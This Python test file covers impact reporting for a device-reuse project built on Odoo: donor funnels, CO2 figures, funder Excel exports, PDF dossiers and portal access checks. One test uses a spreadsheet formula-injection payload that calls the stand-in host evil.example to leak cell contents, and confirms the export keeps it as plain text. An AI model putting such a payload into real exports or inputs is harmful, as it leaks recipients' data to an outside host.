import base64
import io
import re
from datetime import date
from pathlib import Path
from unittest.mock import patch

import lxml.html
import openpyxl
from pypdf import PdfReader

from odoo.exceptions import UserError
from odoo.modules.module import get_module_path
from odoo.tests import HttpCase, TransactionCase, new_test_user, tagged

from odoo.addons.reboot_commune_sales.tests.common import RebootCommuneCommon


class ImpactData(RebootCommuneCommon):
    """A known story for one donor: 12 collected, 6 registered; LT-1 allocated
    and accompanied, LT-2 sold, LT-3 parts, MN-1 recycled, LT-4 ready,
    LT-5 in testing."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.donor = cls.pickup.donor_id
        lots = {lot.name: lot for lot in cls.lots}
        order = cls._order(cls.officer_a, {(cls.laptop, "a"): 2})
        cls._deliver(cls, order)
        cls.lot_1, cls.lot_2 = lots["CS-LT-1"], lots["CS-LT-2"]
        cls.Report = cls.env["reboot.impact.report"]
        cls.year = date.today().year
        cls.baseline = cls._report(cls, donor_id=cls.donor.id)._figures()
        allocation = cls.env["reboot.allocation"].create(
            {
                "lot_id": cls.lot_1.id,
                "commune_id": cls.commune_a.id,
                "beneficiary_type": "school",
                "beneficiary_name": "École Pasteur",
            }
        )
        cls.workshop = cls.env["event.event"].create(
            {
                "name": "Premiers pas",
                "event_type_id": cls.env.ref(
                    "reboot_mediation.event_type_mediation_workshop"
                ).id,
                "date_begin": f"{cls.year}-01-15 09:00:00",
                "date_end": f"{cls.year}-01-15 11:00:00",
            }
        )
        registration = cls.env["event.registration"].create(
            {
                "event_id": cls.workshop.id,
                "allocation_id": allocation.id,
                "reboot_autonomy": "autonome",
            }
        )
        registration.action_reboot_attended()
        lots["CS-LT-3"].action_reboot_to_parts()
        lots["CS-MN-1"].action_reboot_to_recycling()
        trainee = cls.env["hr.employee"].create({"name": "Stagiaire T"})
        cls.env["reboot.placement"].create(
            {
                "employee_id": trainee.id,
                "date_start": f"{cls.year}-01-05",
                "date_end": f"{cls.year}-01-30",
                "hours": 105,
            }
        )
        cls.env.company.reboot_second_life_years = 3

    def _report(self, **vals):
        return self.Report.create(
            {"date_from": f"{self.year}-01-01", "date_to": f"{self.year}-12-31", **vals}
        )

    def _html(self, report_ref, records):
        """The document as HTML (its text, without wkhtmltopdf)."""
        return (
            self.env["ir.actions.report"]
            ._render_qweb_html(report_ref, records.ids)[0]
            .decode()
        )


@tagged("post_install", "-at_install")
class TestImpactFigures(ImpactData, TransactionCase):
    def test_funnel_of_the_donor(self):
        report = self._report(donor_id=self.donor.id)
        expected = {
            "qty_collected": 12,
            "qty_received": 6,
            "qty_workshop": 1,
            "qty_ready": 1,
            "qty_sold": 1,
            "qty_allocated": 1,
            "qty_accompanied": 1,
            "qty_parts": 1,
            "qty_recycled": 1,
        }
        self.assertEqual({k: report[k] for k in expected}, expected)

    def test_co2_from_the_device_type_factors(self):
        report = self._report(donor_id=self.donor.id)
        # two laptops reused: 2 × 27.0 kg/year × 3 years, and 2 × 182.3 kg
        self.assertAlmostEqual(report.co2_conservative_kg, 162.0)
        self.assertAlmostEqual(report.co2_upper_kg, 364.6)
        self.laptop.co2_saving_per_year_kg = 30.0  # new factor, new figure
        self.assertAlmostEqual(
            self._report(donor_id=self.donor.id).co2_conservative_kg, 180.0
        )
        self.assertIn("ADEME", report.co2_method)

    def test_filters(self):
        by_commune = self._report(donor_id=self.donor.id, commune_id=self.commune_a.id)
        self.assertEqual(
            (by_commune.qty_received, by_commune.qty_sold, by_commune.qty_allocated),
            (2, 1, 1),
        )
        monitors = self._report(donor_id=self.donor.id, device_type_id=self.monitor.id)
        self.assertEqual((monitors.qty_received, monitors.qty_recycled), (1, 1))
        self.assertEqual(monitors.co2_upper_kg, 0.0)
        before = self._report(
            donor_id=self.donor.id, date_from="2020-01-01", date_to="2020-12-31"
        )
        self.assertEqual(before.qty_received, 0)

    def test_people(self):
        report = self._report(donor_id=self.donor.id)
        self.assertEqual(report.trainees, self.baseline["trainees"] + 1)
        self.assertEqual(report.trainee_hours, self.baseline["trainee_hours"] + 105)
        self.assertEqual(report.workshops, self.baseline["workshops"] + 1)
        self.assertEqual(report.people_trained, self.baseline["people_trained"] + 1)
        self.assertEqual(report.target_devices, self.env.company.reboot_target_devices)

    def test_funder_xlsx(self):
        report = self._report(donor_id=self.donor.id)
        report.action_funder_xlsx()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(report.file)))
        self.assertEqual(
            book.sheetnames,
            ["Summary", "Devices", "Donors", "Communes", "Trainees", "Workshops"],
        )
        summary = {
            row[0]: row[1]
            for row in book["Summary"].iter_rows(values_only=True)
            if row[0]
        }
        self.assertEqual(summary["Registered"], 6)
        self.assertEqual(summary["Allocated"], 1)
        self.assertEqual(summary["CO2 avoided, conservative (kg CO2e)"], 162.0)
        devices = list(book["Devices"].iter_rows(values_only=True))
        self.assertEqual(devices[0][0], "Serial number")
        self.assertEqual(len(devices), 1 + 6 + 1)
        self.assertEqual(devices[-1][0], "Total")
        self.assertEqual(devices[-1][7], 162.0)
        self.assertEqual(devices[-1][8], 364.6)
        donors = list(book["Donors"].iter_rows(values_only=True))
        self.assertEqual(donors[1][0], self.donor.name)
        self.assertEqual(donors[1][1], 6)
        communes = list(book["Communes"].iter_rows(values_only=True))
        self.assertEqual(communes[1][:2], ("Commune A", 2))

    def test_funder_xlsx_keeps_user_text_as_text(self):
        # a workshop named like a formula stays a name in the funder's Excel
        hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Voir")'
        self.workshop.name = hostile
        report = self._report()
        report.action_funder_xlsx()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(report.file)))
        cells = [
            cell
            for row in book["Workshops"].iter_rows()
            for cell in row
            if cell.value == hostile
        ]
        self.assertTrue(cells, "the workshop is listed")
        self.assertEqual({cell.data_type for cell in cells}, {"s"})

    def test_reuse_certificate(self):
        html = self._html("reboot_impact.action_report_reuse_certificate", self.pickup)
        for serial in ("CS-LT-1", "CS-LT-5", "CS-MN-1"):
            self.assertIn(serial, html)
        self.assertIn("Commune A", html)
        self.assertIn("School", html)
        rows = self.pickup._reboot_reuse_rows()
        self.assertEqual(sum(row["reused"] for row in rows), 2)

    def test_dossier_claims_no_more_than_the_records_hold(self):
        report = self._report(donor_id=self.donor.id)
        rows = report._donor_fates()
        self.assertEqual(
            {row["serial"]: row["erasure"] for row in rows},
            {
                "CS-LT-1": "erased",
                "CS-LT-2": "erased",
                "CS-LT-3": "erased",
                "CS-LT-4": "erased",
                "CS-LT-5": "not_erased",  # still in testing, no wipe
                "CS-MN-1": "no_storage",
            },
        )
        self.assertEqual(
            [count for count, _sentence in report._donor_erasure_summary(rows)],
            [4, 1, 1],
        )
        summary = self._html("reboot_impact.action_report_donor_summary", report)
        self.assertNotIn("Every drive of your devices was erased", summary)
        self.assertIn("every drive erased (NIST SP 800-88)", summary)
        self.assertIn("not erased (yet), no certificate claimed", summary)
        self.assertNotIn("removed by you", summary, "no such device")
        devices = self._html("reboot_impact.action_report_donor_devices", report)
        self.assertIn("Not erased (yet)", devices)
        self.assertIn("No data storage", devices)
        # the certificates: the erased devices only
        sections = dict(
            (ref, ids) for _title, ref, ids in report._donor_dossier_sections()
        )
        self.assertEqual(
            sorted(
                self.env["stock.lot"]
                .browse(sections["reboot_refurb.action_report_erasure_certificate"])
                .mapped("name")
            ),
            ["CS-LT-1", "CS-LT-2", "CS-LT-3", "CS-LT-4"],
        )

    def test_dossier_numbers_in_french(self):
        self.env["res.lang"]._activate_lang("fr_FR")
        report = self._report(donor_id=self.donor.id).with_context(lang="fr_FR")
        html = (
            self.env["ir.actions.report"]
            .with_context(lang="fr_FR")
            ._render_qweb_html("reboot_impact.action_report_donor_summary", report.ids)[
                0
            ]
            .decode()
        )
        kg = report.with_context(lang="fr_FR")._figures()["co2_conservative_kg"]
        self.assertIn(f"{kg:.1f}".replace(".", ","), html)
        self.assertNotIn(f"{kg:.1f} kg", html)

    def test_no_dossier_for_a_year_without_gifts(self):
        report = self.Report.create(
            {
                "donor_id": self.donor.id,
                "date_from": f"{self.year - 5}-01-01",
                "date_to": f"{self.year - 5}-12-31",
            }
        )
        with self.assertRaisesRegex(UserError, "gave no device"):
            report.action_donor_dossier()

    def test_public_donor_yearly_reuse_rate(self):
        self.assertIsNone(self.pickup._reboot_public_reuse_rate())
        self.donor.reboot_donor_kind = "public_body"
        rate = self.pickup._reboot_public_reuse_rate()
        # 6 devices given in the pickup's year; LT-1 allocated, LT-2 sold
        self.assertEqual(
            rate,
            {"year": 2026, "given": 6, "reused": 2, "rate": 33.3, "target": 50},
        )
        html = self._html("reboot_impact.action_report_reuse_certificate", self.pickup)
        self.assertIn("décret 2023-266", html)
        self.assertIn("33.3", html)
        self.assertIn("legal target for that year", html)

    def test_grant_through_its_analytic_account(self):
        plan = self.env["account.analytic.plan"].create({"name": "Grants"})
        account = self.env["account.analytic.account"].create(
            {"name": "Métropole", "plan_id": plan.id}
        )
        self.env["account.analytic.line"].create(
            [
                {
                    "name": "Ventes",
                    "account_id": account.id,
                    "amount": 1250.5,
                    "date": "2026-03-01",
                },
                {
                    "name": "Pièces",
                    "account_id": account.id,
                    "amount": -300.25,
                    "date": "2026-04-01",
                },
                {
                    "name": "Hors période",
                    "account_id": account.id,
                    "amount": 999,
                    "date": "2028-04-01",
                },
            ]
        )
        grant = self.env["reboot.grant"].create(
            {
                "name": "Métropole",
                "funder_id": self.donor.id,
                "amount": 82000,
                "date_from": "2026-01-01",
                "date_to": "2027-12-31",
                "analytic_account_id": account.id,
            }
        )
        self.assertAlmostEqual(grant.revenue, 1250.5)
        self.assertAlmostEqual(grant.costs, 300.25)

    def test_cost_against_price(self):
        lot = self.lot_2.with_user(self.manager)
        self.assertEqual(lot.reboot_sale_price, 150.0)
        self.assertAlmostEqual(lot.reboot_margin, 150.0 - lot.reboot_cost)


@tagged("post_install", "-at_install")
class TestDonorDossier(ImpactData, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        contact = cls.env["res.partner"].create(
            {"name": "Contact donateur", "parent_id": cls.donor.id}
        )
        new_test_user(
            cls.env,
            login="dossier_donor",
            password="dossier_donor",
            groups="base.group_portal",
            partner_id=contact.id,
        )
        other = cls.env["res.partner"].create(
            {"name": "Autre donateur", "is_company": True, "is_reboot_donor": True}
        )
        other_contact = cls.env["res.partner"].create(
            {"name": "Autre contact", "parent_id": other.id}
        )
        new_test_user(
            cls.env,
            login="other_donor",
            password="other_donor",
            groups="base.group_portal",
            partner_id=other_contact.id,
        )

    def _outline(self, pdf):
        reader = PdfReader(io.BytesIO(pdf))
        return len(reader.pages), [item.title for item in reader.outline]

    def test_dossier_parts_and_bookmarks(self):
        report = self._report(donor_id=self.donor.id)
        pages, titles = self._outline(report._donor_dossier_pdf())
        self.assertEqual(
            titles,
            ["Impact summary", "What became of each device", "Erasure certificates"],
        )
        Report = self.env["ir.actions.report"].with_context(force_report_rendering=True)
        expected = 0
        for _title, ref, ids in report._donor_dossier_sections():
            part = Report._render_qweb_pdf(ref, ids)[0]
            expected += len(PdfReader(io.BytesIO(part)).pages)
        self.assertEqual(pages, expected)
        self.assertGreaterEqual(pages, 3 + 1)  # one certificate page per wiped device

    def test_dossier_text_is_text(self):
        """With the server up, as in real use, the dossier's letters are
        text in an installed font (searchable, light), not shapes drawn from
        a web font."""
        pdf = self._report(donor_id=self.donor.id)._donor_dossier_pdf()
        reader = PdfReader(io.BytesIO(pdf))
        text = " ".join(page.extract_text() for page in reader.pages)
        self.assertIn(self.donor.name, text)
        self.assertIn("CS-LT-1", text)
        fonts = {
            str(font.get_object().get("/BaseFont"))
            for page in reader.pages
            for font in (page["/Resources"].get("/Font") or {}).values()
        }
        self.assertTrue(fonts, "no font: the text was drawn as shapes")
        self.assertLess(len(pdf) / len(reader.pages), 60_000)

    def test_long_documents_print_with_the_light_stylesheet(self):
        """The dossier's parts and the certificates print with the suite's
        light stylesheet, which styles every class they use; their HTML
        preview and Odoo's own reports keep Odoo's stylesheet."""
        report = self._report(donor_id=self.donor.id)
        Report = self.env["ir.actions.report"].with_context(debug=False)
        light = Path(
            get_module_path("reboot_base"), "static/src/scss/report_light.scss"
        ).read_text()
        styled = set(re.findall(r"\.([a-z][\w-]*)", light))
        # what the layouts set on every page, and markers of the suite's tests
        structural = {
            "page",
            "article",
            "o_body_pdf",
            "o_css_margins",
            "overflow-hidden",
        }
        sections = report._donor_dossier_sections() + [
            ("", "reboot_refurb.action_report_device_passport", self.lot_1.ids),
            ("", "reboot_impact.action_report_reuse_certificate", self.pickup.ids),
        ]
        for _title, ref, ids in sections:
            action = Report._get_report(ref)
            self.assertTrue(action.reboot_light_style, ref)
            html = Report._render_qweb_html(ref, ids, data={"debug": False})[0]
            self.assertIn(b"web.report_assets_common", html, "the preview keeps Odoo's")
            bodies = action._prepare_html(html, report_model=action.model)[0]
            page = "".join(bodies)
            self.assertIn("reboot_base.report_assets_light", page, ref)
            self.assertNotIn("web.report_assets_common", page, ref)
            used = {
                name
                for classes in lxml.html.fromstring(page).xpath("//@class")
                for name in classes.split()
            }
            unstyled = {
                name
                for name in used - styled - structural
                if not name.startswith(("o_reboot", "reboot_"))
            }
            self.assertFalse(unstyled, f"{ref}: classes the light stylesheet lacks")
        odoo_report = Report._get_report("stock.action_report_lot_label")
        self.assertFalse(odoo_report.reboot_light_style)
        self.assertEqual(odoo_report._get_layout(), self.env.ref("web.minimal_layout"))

    def test_portal_offers_dossiers_of_years_with_gifts_only(self):
        self.authenticate("dossier_donor", "dossier_donor")
        page = self.url_open("/my/pickups").text
        self.assertIn(f"/my/impact/{self.year}", page)
        self.assertNotIn(f"/my/impact/{self.year - 1}", page)
        response = self.url_open(f"/my/impact/{self.year - 1}")
        self.assertNotEqual(response.headers.get("Content-Type"), "application/pdf")
        self.assertTrue(response.url.endswith("/my/pickups"), response.url)

    def test_documents_download_under_their_own_names(self):
        """The reuse certificate and the donation attestation of a pickup no
        longer overwrite each other in the donor's downloads."""
        names = {}
        with patch.object(
            type(self.env["ir.actions.report"]),
            "_render_qweb_pdf",
            lambda report, ref, res_ids=None, data=None: (b"%PDF-1.4 test", "pdf"),
        ):
            self.authenticate("dossier_donor", "dossier_donor")
            for url in (
                f"/my/pickups/{self.pickup.id}/reuse",
                f"/my/pickups/{self.pickup.id}?report_type=pdf&download=true",
            ):
                response = self.url_open(url)
                self.assertEqual(response.status_code, 200, url)
                names[url] = response.headers["Content-Disposition"]
        self.assertEqual(len(set(names.values())), 2, names)
        self.assertTrue(any("r%C3%A9emploi" in name for name in names.values()), names)

    def test_portal_dossier_is_the_donors_own(self):
        # The PDF itself is tested above; here, whose dossier the portal builds.
        # (In a test server, wkhtmltopdf cannot fetch assets from inside a request.)
        def fake_pdf(report):
            return f"%PDF dossier of {report.donor_id.id} {report.date_from}".encode()

        url = f"/my/impact/{self.year}"
        with patch.object(type(self.Report), "_donor_dossier_pdf", fake_pdf):
            self.authenticate("dossier_donor", "dossier_donor")
            response = self.url_open(url)
            self.assertEqual(response.headers["Content-Type"], "application/pdf")
            self.assertEqual(
                response.content.decode(),
                f"%PDF dossier of {self.donor.id} {self.year}-01-01",
            )
            self.authenticate("other_donor", "other_donor")
            response = self.url_open(f"{url}?donor_id={self.donor.id}")
            self.assertNotIn(f"dossier of {self.donor.id} ", response.content.decode())
            self.authenticate(None, None)
            response = self.url_open(url)
            self.assertIn("/web/login", response.url)
            self.authenticate("officer_a", "officer_a")
            response = self.url_open(url)
            self.assertNotEqual(response.headers.get("Content-Type"), "application/pdf")
